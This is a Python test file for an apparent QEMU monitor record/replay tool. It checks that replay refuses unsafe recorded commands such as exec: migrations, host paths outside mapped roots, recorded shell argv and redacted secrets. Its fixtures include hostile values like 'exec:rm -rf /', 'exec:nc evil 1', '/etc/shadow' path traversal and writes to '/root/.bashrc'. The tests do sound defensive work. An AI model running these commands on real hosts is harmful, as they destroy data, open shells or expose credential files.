"""A recording is untrusted input: what replay refuses to send to a real QEMU.

``exec:`` migrations (QMP and HMP) and host paths outside the ``--map-path``
roots are refused and reported unless ``--allow-unsafe``; ``--map-path``
rewrites recorded paths; fds are skipped and reported; redacted secrets are
sent only with ``--secret``. Checked against a real QEMU 7.2, and at the
unit level through :func:`qmprr.replay.safety.refusal`.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from qmprr.cli import main
from qmprr.recording import REDACTED, Command, Fd, Record, RecordingReader, Reply, read_records
from qmprr.replay.engine import ReplayOptions, _cached_decide
from qmprr.replay.safety import PathMap, fill_secrets, refusal, secret_missing
from qmprr.replay.script import Exchange
from replay_support import RUNNING, Step, event, write_recording

# Tests that replay against QEMU are marked qemu one by one; the rest are pure.


def replay(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    status = main(["replay", *args])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def sent_commands(recording: Path) -> list[dict[str, Any]]:
    """What the replay actually sent to QEMU (from its own --record file)."""
    return [
        {k: v for k, v in r.msg.items() if k != "id"}
        for r in read_records(recording)
        if isinstance(r, Command) and r.role != "internal"
    ]


def steps(report: Path) -> list[tuple[str, str, str | None]]:
    return [(s["command"], s["status"], s["reason"]) for s in json.loads(report.read_text())["steps"]]


# -- exec: migrations --------------------------------------------------------------------------


@pytest.mark.qemu
def test_exec_migration_refused_by_default_and_allowed_with_allow_unsafe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    marker = tmp_path / "migrated.bin"
    uri = f"exec:cat > {marker}"
    rec = write_recording(tmp_path / "mig.jsonl", [
        Step("query-status", reply={"return": RUNNING}),
        Step("migrate", {"uri": uri}, after=[event("STOP")]),
    ])
    out_rec, report = tmp_path / "replay1.jsonl", tmp_path / "r1.json"
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--record", str(out_rec), "--report", str(report))
    assert status == 1
    assert f"refused: migrate with an exec: URI runs a host program: '{uri}'" in out
    assert "1 matched, 0 diverged, 0 skipped, 1 refused" in out
    assert steps(report)[1][:2] == ("migrate", "refused")
    assert [c["execute"] for c in sent_commands(out_rec)] == ["query-status"]  # never sent
    assert not marker.exists()

    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--allow-unsafe")
    assert status == 0, out
    assert marker.exists()  # QEMU ran the host program


def test_exec_migration_is_not_refused_on_the_fake(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rec = write_recording(tmp_path / "mig.jsonl", [Step("migrate", {"uri": "exec:rm -rf /"}, after=[event("STOP")])])
    status, out, _ = replay(capsys, str(rec), "--target", "fake")
    assert status == 0, out  # the fake runs nothing


@pytest.mark.qemu
def test_hmp_exec_migration_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    line = 'migrate -d "exec:cat > /dev/null"'
    rec = write_recording(tmp_path / "hmp.jsonl", [Step("human-monitor-command", {"command-line": line}, reply={"return": ""})])
    status, out, _ = replay(capsys, str(rec), "--target", "qemu")
    assert status == 1
    assert "refused: HMP migrate to exec: runs a host program" in out


@pytest.mark.parametrize(
    "command, arguments",
    [
        ("migrate", {"uri": "exec:nc evil 1"}),
        ("migrate-incoming", {"uri": "exec:cat /tmp/state"}),
        ("human-monitor-command", {"command-line": "migrate exec:sh"}),
        ("human-monitor-command", {"command-line": "  migrate -d -b \"exec:sh\""}),
        ("human-monitor-command", {"command-line": "migrate_incoming exec:sh"}),
    ],
)
def test_refusal_exec(command: str, arguments: dict[str, Any]) -> None:
    refused = refusal(command, arguments, roots=[])
    assert refused is not None and "exec" in refused
    ex = Exchange(command, arguments)
    assert ReplayOptions().policy().decide(ex).action == "refuse"
    assert ReplayOptions(allow_unsafe=True).policy().decide(ex).action == "send"


@pytest.mark.parametrize(
    "command, arguments",
    [
        ("migrate", {"uri": "tcp:127.0.0.1:4444"}),
        ("migrate", {"uri": "unix:mig.sock"}),
        ("human-monitor-command", {"command-line": "info migrate"}),
        ("human-monitor-command", {"command-line": "qemu-io top \"write -P 0x5a 0 64k\""}),
        ("qom-list", {"path": "/machine/peripheral"}),  # QOM paths are not host paths
        ("blockdev-add", {"driver": "qcow2", "node-name": "base", "file": {"driver": "file", "filename": "base.qcow2"}}),
    ],
)
def test_refusal_lets_harmless_commands_through(command: str, arguments: dict[str, Any]) -> None:
    assert refusal(command, arguments, roots=[]) is None


@pytest.mark.parametrize(
    "command, arguments",
    [
        ("netdev_add", {"type": "tap", "id": "n0", "script": "/home/u/evil.sh"}),  # runs a host program
        ("netdev_add", {"type": "bridge", "id": "n0", "helper": "/home/u/evil"}),  # runs a host program
        ("chardev-add", {"id": "c0", "backend": {"type": "file", "data": {"out": "/root/.bashrc"}}}),
        ("drive-mirror", {"device": "d0", "target": "/root/overwrite.img", "sync": "full"}),
        ("blockdev-snapshot-sync", {"node-name": "d0", "snapshot-file": "/root/snap.qcow2"}),
        ("object-add", {"qom-type": "memory-backend-file", "id": "m0", "size": 4096, "mem-path": "/root/mem"}),
        ("human-monitor-command", {"command-line": "screendump /root/.bashrc"}),
        ("human-monitor-command", {"command-line": "drive_add 0 if=none,id=d1,file=/etc/shadow"}),
        ("blockdev-add", {"driver": "file", "node-name": "f", "filename": "../../../../../../etc/shadow"}),
    ],
)
def test_refusal_other_ways_to_reach_the_host(command: str, arguments: dict[str, Any]) -> None:
    assert refusal(command, arguments, roots=["/srv/replay"]) is not None


@pytest.mark.qemu
def test_recorded_argv_cannot_run_any_program(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pwned = tmp_path / "pwned"
    rec = write_recording(tmp_path / "evil.jsonl", [Step("query-status", reply={"return": RUNNING})],
                          argv=["sh", "-c", f"touch {pwned}"])
    status, _, _ = replay(capsys, str(rec), "--target", "qemu")
    assert not pwned.exists(), "the recorded argv ran a shell command on this host"
    assert status == 2


# -- host paths -----------------------------------------------------------------------------------


@pytest.mark.qemu
def test_path_outside_roots_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rec = write_recording(tmp_path / "paths.jsonl", [
        Step("blockdev-add", {"driver": "file", "node-name": "f", "filename": "/etc/passwd", "read-only": True}),
        Step("dump-guest-memory", {"paging": False, "protocol": "file:/root/guest.dump"}),
    ])
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--keep-going")
    assert status == 1
    assert "refused: reaches host path '/etc/passwd' outside the mapped roots (use --map-path)" in out
    assert "0 matched, 0 diverged, 0 skipped, 2 refused" in out
    report = tmp_path / "r.json"
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--allow-unsafe", "--until", "4", "--report", str(report))
    assert status == 0, out  # QEMU opened /etc/passwd read-only: allowed when asked
    assert steps(report) == [("blockdev-add", "matched", None)]


@pytest.mark.qemu
def test_map_path_rewrites_arguments(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    images = tmp_path / "images"
    images.mkdir()
    import subprocess

    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2", str(images / "disk.qcow2"), "16M"], check=True)
    recorded_path = "/srv/bugreport/images/disk.qcow2"
    rec = write_recording(tmp_path / "bug.jsonl", [
        Step("blockdev-add", {"driver": "qcow2", "node-name": "disk0", "file": {"driver": "file", "filename": recorded_path}}),
        Step("blockdev-del", {"node-name": "disk0"}),
    ])
    status, out, _ = replay(capsys, str(rec), "--target", "qemu")
    assert status == 1 and f"reaches host path '{recorded_path}'" in out
    out_rec = tmp_path / "replayed.jsonl"
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--map-path", f"/srv/bugreport/images={images}",
                            "--record", str(out_rec))
    assert status == 0, out
    assert sent_commands(out_rec)[0]["arguments"]["file"]["filename"] == str(images / "disk.qcow2")


def test_path_map_unit() -> None:
    pm = PathMap.parse(["/srv/bug=/data/here/", "/old=/new"])
    assert pm.pairs == (("/srv/bug", "/data/here"), ("/old", "/new"))
    assert pm.rewrite({"a": ["/srv/bug/x.img", "file:/srv/bug/y", "unix:/old/s.sock", "/srv/bugger", "/srv/bug"]}) == {
        "a": ["/data/here/x.img", "file:/data/here/y", "unix:/new/s.sock", "/srv/bugger", "/data/here"]
    }
    assert pm.allowed_roots() == ["/data/here", "/new"]
    for bad in ("nodelimiter", "=/x", "/x="):
        with pytest.raises(ValueError, match="FROM=TO"):
            PathMap.parse([bad])
    # Rewritten paths are inside the roots; anything else is not.
    roots = pm.allowed_roots()
    assert refusal("blockdev-add", pm.rewrite({"filename": "/srv/bug/x"}), roots=roots) is None
    assert refusal("blockdev-add", {"filename": "/data/here/../../etc/passwd"}, roots=roots)


def test_map_path_bad_syntax_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, _, err = replay(capsys, "recordings/lifecycle.jsonl", "--target", "fake", "--map-path", "nope")
    assert status == 2 and "--map-path takes FROM=TO" in err


@pytest.mark.qemu
def test_map_path_rewrites_paths_inside_argv_options(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    images = tmp_path / "images"
    images.mkdir()
    (images / "disk.img").write_bytes(b"\0" * 65536)
    argv = ["qemu-system-x86_64", "-machine", "none", "-nodefaults", "-display", "none",
            "-blockdev", "driver=file,node-name=disk0,filename=/srv/bugreport/disk.img,read-only=on"]
    rec = write_recording(tmp_path / "bug.jsonl", [Step("query-status", reply={"return": RUNNING})], argv=argv)
    status, out, err = replay(capsys, str(rec), "--target", "qemu", "--map-path", f"/srv/bugreport={images}")
    assert status == 0, err


@pytest.mark.qemu
def test_map_path_applies_to_recorded_replies(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    images = tmp_path / "images"
    images.mkdir()
    (images / "disk.img").write_bytes(b"\0" * 65536)
    recorded = "/srv/bugreport/disk.img"
    # Record what QEMU answers here, then make it look recorded on the bug reporter's host.
    probe = write_recording(tmp_path / "probe.jsonl", [
        Step("blockdev-add", {"driver": "file", "node-name": "f0", "filename": recorded, "read-only": True}),
        Step("query-named-block-nodes", {"flat": True}, reply={"return": []}),
    ])
    here = tmp_path / "here.jsonl"
    replay(capsys, str(probe), "--target", "qemu", "--keep-going", "--map-path", f"/srv/bugreport={images}", "--record", str(here))

    from replay_support import rewrite_recording

    def elsewhere(record: Record) -> Record:
        if isinstance(record, (Command, Reply)):
            record.msg = json.loads(json.dumps(record.msg).replace(str(images), "/srv/bugreport"))
        return record

    bug = rewrite_recording(here, tmp_path / "bug.jsonl", elsewhere)
    assert recorded in bug.read_text()
    status, out, _ = replay(capsys, str(bug), "--target", "qemu", "--map-path", f"/srv/bugreport={images}")
    assert status == 0, out


# -- file descriptors ----------------------------------------------------------------------------


@pytest.mark.qemu
def test_getfd_gets_a_placeholder_fd_and_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rec = write_recording(tmp_path / "fd.jsonl", [
        Step("getfd", {"fdname": "mig"}, fd="fd:0"),
        Step("query-status", reply={"return": RUNNING}),
        Step("closefd", {"fdname": "mig"}),
    ])
    report, out_rec = tmp_path / "r.json", tmp_path / "replayed.jsonl"
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--report", str(report), "--record", str(out_rec))
    # QEMU really got an fd named 'mig' (closefd of it succeeds), a placeholder, and the step says so.
    assert status == 0, out
    placeholder = "a placeholder fd (/dev/null) stood in for the recorded one"
    assert f"matched: seq 4 getfd (primary-1): {placeholder}" in out
    assert steps(report) == [
        ("getfd", "matched", placeholder),
        ("query-status", "matched", None),
        ("closefd", "matched", None),
    ]
    assert [c["execute"] for c in sent_commands(out_rec)] == ["getfd", "query-status", "closefd"]
    fds = [r for r in RecordingReader(out_rec) if isinstance(r, Fd)]
    assert [f.placeholder for f in fds] == ["fd:0"]


# -- redacted secrets ----------------------------------------------------------------------------


def _secret_recording(tmp_path: Path) -> Path:
    # The writer redacts object-add secret data as it writes, as 'qmprr launch' does.
    rec = write_recording(tmp_path / "secret.jsonl", [
        Step("object-add", {"qom-type": "secret", "id": "sec0", "data": "aHVudGVyMg==", "format": "base64"}),
        Step("query-status", reply={"return": RUNNING}),
    ])
    assert "aHVudGVyMg==" not in rec.read_text() and REDACTED in rec.read_text()
    return rec


@pytest.mark.qemu
def test_redacted_secret_skipped_without_secret(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rec = _secret_recording(tmp_path)
    out_rec = tmp_path / "replayed.jsonl"
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--record", str(out_rec))
    assert status == 0, out
    assert "skipped: seq 4 object-add (primary-1): a redacted secret (sec0); give it with --secret sec0=VALUE" in out
    assert [c["execute"] for c in sent_commands(out_rec)] == ["query-status"]  # never sent with the marker


@pytest.mark.qemu
def test_redacted_secret_sent_with_secret(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rec = _secret_recording(tmp_path)
    report, out_rec = tmp_path / "r.json", tmp_path / "replayed.jsonl"
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--secret", "sec0=aHVudGVyMg==",
                            "--report", str(report), "--record", str(out_rec))
    assert status == 0, out
    assert steps(report)[0] == ("object-add", "matched", "sent with the --secret value")
    # The replay's own recording redacts it again.
    assert "aHVudGVyMg==" not in out_rec.read_text()
    # QEMU got the value, not the marker: with format=base64 it checks it.
    status, out, _ = replay(capsys, str(rec), "--target", "qemu", "--secret", "sec0=not base64!")
    assert status == 1
    assert "first divergence at step 1, recorded seq 4: object-add" in out
    assert "reply return vs error: recorded {}, got GenericError: 'Base64 data contains invalid characters'" in out


def test_fill_secrets_unit() -> None:
    hmp = {"command-line": f"object_add secret,id=sec1,data={REDACTED},format=raw"}
    assert secret_missing("human-monitor-command", hmp, {})
    assert fill_secrets("set_password", {"protocol": "vnc", "password": REDACTED}, {"vnc": "pw"}) == {"protocol": "vnc", "password": "pw"}
    assert fill_secrets("object-add", {"id": "s", "data": REDACTED}, {"other": "x"}) == {"id": "s", "data": REDACTED}


def test_hmp_secret_by_object_id() -> None:
    hmp = {"command-line": f"object_add secret,id=sec1,data={REDACTED},format=raw"}
    assert secret_missing("human-monitor-command", hmp, {"sec1": "pw"}) is None


_arg_values = st.sampled_from(["/tmp/x.qcow2", "/etc/passwd", "/srv/img", "exec:cat", "node1", REDACTED,
                               f"object_add secret,id=sec1,data={REDACTED}", "getfd fd1", "", 1, 1.0, True, None])
_arguments = st.none() | st.dictionaries(
    st.sampled_from(["filename", "path", "uri", "id", "data", "command-line", "fdname", "protocol", "password"]),
    _arg_values | st.lists(_arg_values, max_size=2) | st.dictionaries(st.sampled_from(["filename", "id"]), _arg_values,
                                                                      max_size=2),
    max_size=3)
_exchanges = st.builds(
    Exchange,
    command=st.sampled_from(["blockdev-add", "migrate", "getfd", "human-monitor-command", "object-add", "qom-list",
                             "set_password", "query-status"]),
    arguments=_arguments, reply=st.just({"return": {}}),
    src=st.sampled_from(["primary-1", "debug-2"]), role=st.sampled_from(["primary", "internal"]),
)


@given(exchanges=st.lists(_exchanges, max_size=8), secrets=st.sampled_from([{}, {"sec1": "pw", "vnc": "pw"}]),
       only_src=st.sampled_from([(), ("primary-1",)]), mapped=st.booleans())
def test_the_engines_cached_decisions_are_the_policys(exchanges: list[Exchange], secrets: dict[str, str],
                                                      only_src: tuple[str, ...], mapped: bool) -> None:
    """Each exchange twice (the second with equal, not identical, arguments): cache hit or not, the same decision."""
    path_map = PathMap.parse(["/tmp=/var/qmprr"] if mapped else [])
    policy = ReplayOptions(secrets=secrets, only_src=only_src, path_map=path_map).policy()
    decide = _cached_decide(policy)
    for ex in exchanges + [attrs.evolve(ex, arguments=copy.deepcopy(ex.arguments)) for ex in exchanges]:
        assert decide(ex) == policy.decide(ex)
